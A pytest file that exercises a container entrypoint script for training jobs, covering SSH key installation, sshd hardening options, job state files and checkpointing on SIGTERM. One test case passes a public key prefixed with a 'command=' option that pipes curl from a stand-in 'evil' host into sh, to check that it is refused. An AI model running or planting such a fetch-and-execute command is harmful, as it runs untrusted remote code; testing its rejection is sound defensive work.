"""docker/entrypoint.sh as the container runs it, without a container: bash with fakes on PATH.

The fakes: `sshd` and `ssh-keygen` record their arguments in an events file (sshd runs until SIGTERM);
deploy_8gpu.sh records its call, runs for FAKE_RUN_S, checkpoints for FAKE_CHECKPOINT_S on SIGTERM and
writes the state file a real deploy would; `deploy_8gpu.sh status` is the real one, reading the state
files (and locks) the deploy or the test wrote. TRAINERS_IN_CONTAINER=1 is what the image sets.
"""

import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import ROOT

ENTRYPOINT = ROOT / "docker" / "entrypoint.sh"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBmQ8rJw0c3b6sQnE0bm3nI6VhW7w9dPqvV5x6p0V6aQ test@ci"
KEY2 = "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBBQ= second@ci"

FAKE_DEPLOY = r"""#!/usr/bin/env bash
set -euo pipefail
if [[ "${1:-}" == status ]]; then exec bash "$REAL_KIT/deploy_8gpu.sh" "$@"; fi
trainer="${TRAINER:-forecast}" out="$OUT" phase=train
args=("$@")
for ((i = 0; i < ${#args[@]}; i++)); do
  [[ "${args[i]}" != --trainer ]] || trainer="${args[i + 1]}"
  [[ "${args[i]}" != --out ]] || out="${args[i + 1]}"
done
echo "deploy $trainer $*" >> "$EVENTS"
echo "deploy called with: $*"
mkdir -p "$out"
state() {  # the state file as kit_lib.sh's set_state writes it
  printf 'trainer=%s\npid=%s\nhost=%s\nstate=%s\nphase=%s\nexit_code=%s\nlog=%s\ndownload=%s\n' "$trainer" $$ \
    "$(hostname)" "$1" "$phase" "$2" "$out/deploy-$trainer.log" "$3" > "$out/deploy-$trainer.state"
}
state running "" ""
stop() {
  echo "job got TERM" >> "$EVENTS"
  kill "$SLEEP" 2>/dev/null || true
  sleep "${FAKE_CHECKPOINT_S:-0}"
  echo "job checkpointed" >> "$EVENTS"
  state stopped 2 ""
  exit 2
}
trap stop TERM
sleep "${FAKE_RUN_S:-0}" & SLEEP=$!
wait "$SLEEP"
rc="${FAKE_RC:-0}"
if [[ "$rc" -eq 0 ]]; then
  phase=download; state finished 0 "scp -P 40022 root@203.0.113.7:$out/$trainer.tar.gz ."
else
  state failed "$rc" ""
fi
echo "job done" >> "$EVENTS"
exit "$rc"
"""

FAKE_SSHD = r"""#!/usr/bin/env bash
echo "sshd $*" >> "$EVENTS"
[[ "${1:-}" != -t ]] || exit "${FAKE_SSHD_TEST_RC:-0}"
trap 'kill "$SLEEP" 2>/dev/null; echo "sshd stopped" >> "$EVENTS"; exit 0' TERM
sleep 300 & SLEEP=$!
wait "$SLEEP"
"""

FAKE_KEYGEN = r"""#!/usr/bin/env bash
echo "ssh-keygen $*" >> "$EVENTS"
"""


class Entry:
    """The entrypoint running in the background, in a session of its own (cleaned up with its group)."""

    def __init__(self, tmp_path: Path, args, env: dict):
        self.log_path = tmp_path / "entrypoint.log"
        self.log_file = open(self.log_path, "w")
        self.proc = subprocess.Popen(["bash", str(ENTRYPOINT), *args], stdout=self.log_file, stderr=subprocess.STDOUT,
                                     env=env, start_new_session=True, cwd=tmp_path)

    def log(self) -> str:
        return self.log_path.read_text()

    def wait_for(self, text: str, timeout: float = 30) -> None:
        deadline = time.monotonic() + timeout
        while text not in self.log():
            if self.proc.poll() is not None or time.monotonic() > deadline:
                raise AssertionError(f"{text!r} never appeared (exit {self.proc.poll()}):\n{self.log()}")
            time.sleep(0.05)

    def alive(self) -> bool:
        return self.proc.poll() is None

    def stop(self, sig=signal.SIGTERM, timeout: float = 15) -> int:
        self.proc.send_signal(sig)
        return self.proc.wait(timeout=timeout)

    def close(self) -> None:
        try:
            os.killpg(self.proc.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        self.proc.wait(timeout=10)
        self.log_file.close()


@pytest.fixture
def kit(tmp_path):
    """The fakes, and the environment the image gives the entrypoint (TRAINERS_IN_CONTAINER=1)."""
    kit_dir, bin_dir = tmp_path / "kit", tmp_path / "bin"
    kit_dir.mkdir()
    bin_dir.mkdir()
    for path, body in ((kit_dir / "deploy_8gpu.sh", FAKE_DEPLOY), (bin_dir / "sshd", FAKE_SSHD),
                       (bin_dir / "ssh-keygen", FAKE_KEYGEN)):
        path.write_text(body)
        path.chmod(0o755)
    (kit_dir / "run_multigpu.sh").write_text('exec bash "$(dirname "$0")/deploy_8gpu.sh" --trainer gnn "$@"\n')
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("RUNPOD_", "TRAINERS_")) and k not in ("PUBLIC_KEY", "TRAINER", "EXIT_WHEN_DONE", "OUT")}
    env.update(KIT_DIR=str(kit_dir), OUT=str(tmp_path / "out"), REAL_KIT=str(ROOT), EVENTS=str(tmp_path / "events"),
               TRAINERS_IN_CONTAINER="1", TRAINERS_PYTHON=sys.executable, TRAINERS_SSHD=str(bin_dir / "sshd"),
               TRAINERS_SSH_DIR=str(tmp_path / "root-ssh"), TRAINERS_SSHD_RUN_DIR=str(tmp_path / "run-sshd"),
               TRAINERS_SSH_ENV_FILE=str(tmp_path / "trainers-env.sh"),
               PATH=f"{bin_dir}:{Path(sys.executable).parent}:/usr/bin:/bin")
    (tmp_path / "events").touch()
    started = []

    class Kit:
        path = tmp_path
        out = tmp_path / "out"
        ssh_dir = tmp_path / "root-ssh"

        def env(self, **extra):
            return {**env, **extra}

        def run(self, *args, timeout: float = 60, **extra):
            """The entrypoint to its end (EXIT_WHEN_DONE=1 unless given)."""
            return subprocess.run(["bash", str(ENTRYPOINT), *args], capture_output=True, text=True, cwd=tmp_path,
                                  env=self.env(**{"EXIT_WHEN_DONE": "1", **extra}), timeout=timeout)

        def start(self, *args, **extra) -> Entry:
            entry = Entry(tmp_path, args, self.env(**extra))
            started.append(entry)
            return entry

        def events(self) -> list[str]:
            return (tmp_path / "events").read_text().splitlines()

        def calls(self, prefix: str) -> list[str]:
            return [e for e in self.events() if e.startswith(prefix)]

        def write_state(self, trainer="forecast", **fields):
            """A state file as a deploy that is no longer running left it (a finished one, its tarball:
            status checks the file a "finished" names)."""
            self.out.mkdir(exist_ok=True)
            tarball = self.out / f"{trainer}.tar.gz"
            if fields.get("state") == "finished":
                tarball.write_bytes(b"tarball")
            fields = {"trainer": trainer, "pid": "999999", "host": socket.gethostname(), "phase": "train",
                      "log": str(self.out / f"deploy-{trainer}.log"), "tarball": str(tarball), **fields}
            (self.out / f"deploy-{trainer}.state").write_text("".join(f"{k}={v}\n" for k, v in fields.items()))

    yield Kit()
    for entry in started:
        entry.close()


def ssh_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("entrypoint: SSH ")]


# ---- SSH -----------------------------------------------------------------------------------------------

def test_the_key_is_written_with_modes_host_keys_are_made_and_sshd_allows_keys_only(kit):
    # too open (a folder or file someone made before): sshd's StrictModes would refuse the keys in them
    kept = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ== kept@host"
    kit.ssh_dir.mkdir()
    keys = kit.ssh_dir / "authorized_keys"
    keys.write_text(kept + "\n")
    kit.ssh_dir.chmod(0o755)
    keys.chmod(0o644)
    proc = kit.run("deploy", PUBLIC_KEY=f"{KEY}\r\nnot a key\n\n{KEY2}\n")
    assert proc.returncode == 0, proc.stderr
    assert keys.read_text().splitlines() == [kept, KEY, KEY2]
    assert oct(kit.ssh_dir.stat().st_mode & 0o777) == "0o700" and oct(keys.stat().st_mode & 0o777) == "0o600"
    [line] = ssh_lines(proc.stderr)
    assert line.startswith("entrypoint: SSH on: port 22") and "3 key(s)" in line and "1 PUBLIC_KEY line(s) ignored" in line
    events = kit.events()
    keygen, check, daemon = events.index("ssh-keygen -A"), events.index(kit.calls("sshd -t")[0]), \
        events.index(kit.calls("sshd -D -e")[0])
    deployed, stopped = events.index(kit.calls("deploy ")[0]), events.index("sshd stopped")
    assert keygen < check < daemon < deployed < stopped, events  # keys and sshd first, sshd stopped at the end
    for option in ("PasswordAuthentication=no", "KbdInteractiveAuthentication=no", "PermitEmptyPasswords=no",
                   "PermitRootLogin=prohibit-password", "PubkeyAuthentication=yes", "Port=22",
                   f"AuthorizedKeysFile={keys}"):
        assert f"-o {option}" in events[daemon], (option, events[daemon])
    # a restarted container (same disk, same PUBLIC_KEY) does not add the key again; other keys stay
    assert kit.run("deploy", PUBLIC_KEY=KEY).returncode == 0
    assert keys.read_text().splitlines() == [kept, KEY, KEY2]


def test_without_a_key_one_line_says_ssh_is_off_and_why_and_the_job_runs(kit):
    proc = kit.run("deploy", "--demo")
    assert proc.returncode == 0 and "deploy called with: --foreground --demo" in proc.stdout
    [line] = ssh_lines(proc.stderr)
    assert line.startswith("entrypoint: SSH off: no PUBLIC_KEY given") and "-e PUBLIC_KEY=" in line
    assert not kit.calls("sshd") and not kit.calls("ssh-keygen") and not kit.ssh_dir.exists()


def test_keys_joined_on_one_line_are_each_added(kit):
    # RunPod may pass every key of an account in PUBLIC_KEY on one line, space-separated
    proc = kit.run("deploy", PUBLIC_KEY=f"{KEY} {KEY2} ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAA")
    assert proc.returncode == 0, proc.stderr
    assert (kit.ssh_dir / "authorized_keys").read_text().splitlines() == \
        [KEY, KEY2, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAA"]
    assert "SSH on" in ssh_lines(proc.stderr)[0] and "ignored" not in ssh_lines(proc.stderr)[0]


@pytest.mark.parametrize("value", ["hello", 'command="curl evil|sh" ' + KEY, "ssh-ed25519 not base64!",
                                   "ssh-ed25519"])
def test_a_public_key_that_is_not_one_is_refused_and_the_job_runs(kit, value):
    proc = kit.run("deploy", PUBLIC_KEY=value)
    assert proc.returncode == 0 and kit.calls("deploy ")
    [line] = ssh_lines(proc.stderr)
    assert "SSH off: PUBLIC_KEY is set but holds no public key" in line
    assert not kit.calls("sshd") and not (kit.ssh_dir / "authorized_keys").exists()


def test_an_sshd_that_refuses_to_start_leaves_ssh_off_and_the_job_runs(kit):
    proc = kit.run("deploy", PUBLIC_KEY=KEY, FAKE_SSHD_TEST_RC="255")
    assert proc.returncode == 0 and kit.calls("deploy ")
    [line] = ssh_lines(proc.stderr)
    assert line.startswith("entrypoint: SSH off: sshd refuses its configuration")
    assert not kit.calls("sshd -D")


def test_outside_the_image_the_hosts_ssh_is_never_touched_and_it_exits_when_done(kit):
    env = kit.env(PUBLIC_KEY=KEY)
    del env["TRAINERS_IN_CONTAINER"]
    proc = subprocess.run(["bash", str(ENTRYPOINT), "deploy"], capture_output=True, text=True, env=env, timeout=60)
    assert proc.returncode == 0 and kit.calls("deploy ")
    assert not ssh_lines(proc.stderr) and not kit.calls("sshd") and not kit.calls("ssh-keygen")
    assert not kit.ssh_dir.exists()


def test_ssh_sessions_get_the_containers_environment_once(kit):
    odd = "two words, 'quotes' and \"more\" $HOME `x`"
    proc = kit.run("deploy", PUBLIC_KEY=KEY, TRAINER="gnn", RUNPOD_PUBLIC_IP="203.0.113.7",
                   RUNPOD_TCP_PORT_22="40022", ODD_VALUE=odd)
    assert proc.returncode == 0, proc.stderr
    env_file = kit.path / "trainers-env.sh"
    [daemon] = kit.calls("sshd -D")
    assert f"-o SetEnv=BASH_ENV={env_file}" in daemon  # what a `ssh host command` shell reads
    assert "connect: ssh -p 40022 root@203.0.113.7" in ssh_lines(proc.stderr)[0]
    assert oct(env_file.stat().st_mode & 0o777) == "0o600"
    show = 'printf "%s|%s|%s|%s|%s|%s" "$TRAINER" "$OUT" "$RUNPOD_TCP_PORT_22" "$ODD_VALUE" "${PUBLIC_KEY-unset}" "$PATH"'
    # a command over SSH: sshd's clean environment plus BASH_ENV
    got = subprocess.run(["env", "-i", f"BASH_ENV={env_file}", "/bin/bash", "-c", show], capture_output=True,
                         text=True).stdout.split("|")
    assert got == ["gnn", str(kit.out), "40022", odd, "unset", kit.env()["PATH"]]
    # a variable changed in the session reaches the commands run from it (applied once per session)
    got = subprocess.run(["env", "-i", f"BASH_ENV={env_file}", "/bin/bash", "-c",
                          "export TRAINER=lstm; bash -c 'echo $TRAINER'"], capture_output=True, text=True).stdout
    assert got.strip() == "lstm"


# ---- the job's end: stay up, or exit when done --------------------------------------------------------

def test_after_a_finished_job_the_container_stays_up_until_sigterm(kit):
    entry = kit.start("deploy", PUBLIC_KEY=KEY)
    entry.wait_for("stop the pod when you are done")
    assert "the deploy of forecast finished; the container stays up" in entry.log()
    assert f"download: scp -P 40022 root@203.0.113.7:{kit.out}/forecast.tar.gz ." in entry.log()
    time.sleep(1.5)
    assert entry.alive() and "sshd stopped" not in kit.events()  # up, and reachable
    assert entry.stop() == 0
    assert kit.events()[-1] == "sshd stopped" and len(kit.calls("deploy ")) == 1


def test_a_failed_job_is_reported_and_not_rerun_and_the_container_stays_up(kit):
    entry = kit.start("deploy", FAKE_RC="3")
    entry.wait_for("stop the pod when you are done")
    log = entry.log()
    assert "the deploy of forecast FAILED in phase train (exit 3)" in log and "rerun with: deploy_8gpu.sh" in log
    time.sleep(1.5)
    assert entry.alive() and len(kit.calls("deploy ")) == 1
    assert entry.stop() == 3  # the container's code is the job's


def test_exit_when_done_returns_the_jobs_code_and_runs_whatever_the_state_says(kit):
    kit.write_state(state="failed", exit_code="2")
    proc = kit.run("deploy", FAKE_RC="7", timeout=30)
    assert proc.returncode == 7 and len(kit.calls("deploy ")) == 1
    assert kit.run("deploy").returncode == 0 and len(kit.calls("deploy ")) == 2


def test_exit_when_done_is_0_or_1(kit):
    proc = kit.run("deploy", EXIT_WHEN_DONE="yes")
    assert proc.returncode == 2 and "EXIT_WHEN_DONE='yes' must be 0" in proc.stderr and not kit.calls("deploy")


def test_help_and_dry_run_end_at_once_without_ssh(kit):
    for args in (["deploy", "--help"], ["deploy", "--dry-run"], ["gnn", "--help"]):
        proc = kit.run(*args, PUBLIC_KEY=KEY, EXIT_WHEN_DONE="0", timeout=30)
        assert proc.returncode == 0 and f"--foreground {args[1]}" in proc.stdout
    assert not kit.calls("sshd")


# ---- stop: SIGTERM reaches the job, which is waited for ------------------------------------------------

@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT])
def test_a_stop_reaches_the_job_which_checkpoints_before_the_container_ends(kit, sig):
    entry = kit.start("deploy", PUBLIC_KEY=KEY, FAKE_RUN_S="60", FAKE_CHECKPOINT_S="1.5")
    deadline = time.monotonic() + 30
    while not kit.calls("deploy "):
        assert time.monotonic() < deadline and entry.alive(), entry.log()
        time.sleep(0.05)
    time.sleep(0.3)
    t0 = time.monotonic()
    rc = entry.stop(sig)
    events = kit.events()
    assert rc == 2, entry.log()  # the job's code: it stopped with a checkpoint
    assert time.monotonic() - t0 >= 1.4  # waited for the checkpoint ...
    assert events.index("job got TERM") < events.index("job checkpointed") < events.index("sshd stopped")
    assert "the container stays up" not in entry.log()  # ... and then ended: a stop is not kept up
    assert "stopped" in (kit.out / "deploy-forecast.state").read_text()


def test_a_stop_also_reaches_a_deploy_started_from_a_terminal(kit):
    kit.write_state(state="finished", exit_code="0")
    entry = kit.start("deploy")
    entry.wait_for("stop the pod when you are done")
    # what `deploy_8gpu.sh --trainer gnn` from the web terminal leaves: a detached deploy holding its lock,
    # reparented (setsid from a shell that exits), so the test's process is not its parent that never reaps
    subprocess.run(["bash", "-c", r"""setsid bash -c '
        exec 9<>"$OUT/.deploy-gnn.lock"; flock -n 9
        printf "trainer=gnn\npid=%s\nhost=%s\nstate=running\nphase=train\n" $$ "$(hostname)" > "$OUT/deploy-gnn.state"
        trap "sleep 1; echo terminal job checkpointed >> \"\$EVENTS\"; exit 2" TERM
        echo ready >> "$EVENTS"
        while true; do sleep 0.1; done' </dev/null >/dev/null 2>&1 &"""], env=kit.env(), check=True)
    deadline = time.monotonic() + 10
    while "ready" not in kit.events():
        assert time.monotonic() < deadline
        time.sleep(0.05)
    pid = int(next(line[4:] for line in (kit.out / "deploy-gnn.state").read_text().splitlines() if line.startswith("pid=")))
    try:
        assert entry.stop() == 0
        assert "terminal job checkpointed" in kit.events()
        assert "stopping the deploy of gnn started from a terminal" in entry.log()
    finally:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass


# ---- start: the state file decides ----------------------------------------------------------------------

@pytest.mark.parametrize("state, exit_code, says, rc", [
    ("finished", "0", "finished earlier: not run again", 0),
    ("failed", "4", "FAILED earlier in phase train (exit 4", 4),
])
def test_a_finished_or_failed_job_is_not_rerun_on_start(kit, state, exit_code, says, rc):
    kit.write_state(state=state, exit_code=exit_code, download="scp -P 1 root@h:/x.tar.gz ." if state == "finished" else "")
    entry = kit.start("deploy")
    entry.wait_for("stop the pod when you are done")
    assert says in entry.log()
    assert ("download: scp -P 1 root@h:/x.tar.gz ." in entry.log()) == (state == "finished")
    time.sleep(1)
    assert entry.alive() and not kit.calls("deploy ")
    assert entry.stop() == rc


@pytest.mark.parametrize("state, says", [("stopped", "was stopped in phase train: resuming it"),
                                         ("running", "was interrupted in phase train: resuming it")])
def test_a_stopped_or_interrupted_job_is_resumed_on_start(kit, state, says):
    kit.write_state(state=state)  # "running" with nobody holding its lock: the container was killed
    entry = kit.start("deploy")
    entry.wait_for("the container stays up")
    assert says in entry.log() and len(kit.calls("deploy forecast")) == 1
    assert entry.stop() == 0


def test_the_state_of_the_trainer_asked_for_decides(kit):
    kit.write_state(trainer="gnn", state="finished", exit_code="0")
    for args, env in ((["gnn"], {}), (["deploy"], {"TRAINER": "gnn"}), (["deploy", "--trainer", "gnn"], {})):
        entry = kit.start(*args, **env)
        entry.wait_for("stop the pod when you are done")
        assert "the deploy of gnn in" in entry.log() and "finished earlier" in entry.log()
        assert entry.stop() == 0
    assert not kit.calls("deploy ")
    entry = kit.start("deploy")  # the forecaster has no state yet: it runs
    entry.wait_for("the container stays up")
    assert kit.calls("deploy forecast") and entry.stop() == 0


def test_a_finished_job_whose_tarball_is_gone_is_run_again_and_a_failure_says_why(kit):
    """status checks a "finished" against its tarball ("incomplete" when it is gone): the container
    reruns it (training resumes at its end; export and package make the tarball again)."""
    kit.write_state(state="finished", exit_code="0")
    (kit.out / "forecast.tar.gz").unlink()
    entry = kit.start("deploy")
    entry.wait_for("the container stays up")
    assert "is in state 'incomplete'" in entry.log() and len(kit.calls("deploy forecast")) == 1
    assert entry.stop() == 0
